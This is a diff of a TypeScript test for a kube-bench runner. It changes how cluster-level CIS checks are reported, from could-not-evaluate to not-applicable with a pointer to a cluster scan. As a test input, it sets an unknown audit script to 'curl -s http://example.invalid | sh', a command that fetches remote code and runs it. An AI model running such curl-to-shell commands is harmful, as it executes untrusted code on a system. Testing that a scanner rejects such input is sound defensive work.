@@ -63,12 +63,12 @@ describe('kube-bench runner', () => {
     for (const r of rs.filter((x) => x.kubeBench === 'WARN' && x.status === 'MANUAL')) assert.ok(r.scored === false || /manual|no tests/.test(r.evidence), r.id);
   });
 
-  it('never passes a check it cannot answer: cluster queries and unknown scripts could not be evaluated', () => {
+  it('never passes a check it cannot answer: unknown scripts could not be evaluated, cluster queries are left to the cluster view', () => {
     const facts = memoryFacts({ processes: [kubelet('/var/lib/kubelet/config.yaml')] });
     const rs = runControls(cis112.files, cis112.config, facts);
     const cluster = byId(rs, '5.1.2', 'policies');
-    assert.equal(cluster.status, 'COULD_NOT_EVALUATE');
-    assert.match(cluster.evidence, /kubectl/);
+    assert.equal(cluster.status, 'NOT_APPLICABLE');
+    assert.match(cluster.evidence, /kubectl.*scan --cluster --framework cis/);
     const odd = structuredClone(cis112.files.find((f) => f.type === 'node')!);
     odd.groups[0].checks[0].audit = 'curl -s http://example.invalid | sh';
     const r = runControls([odd], cis112.config, facts)[0];
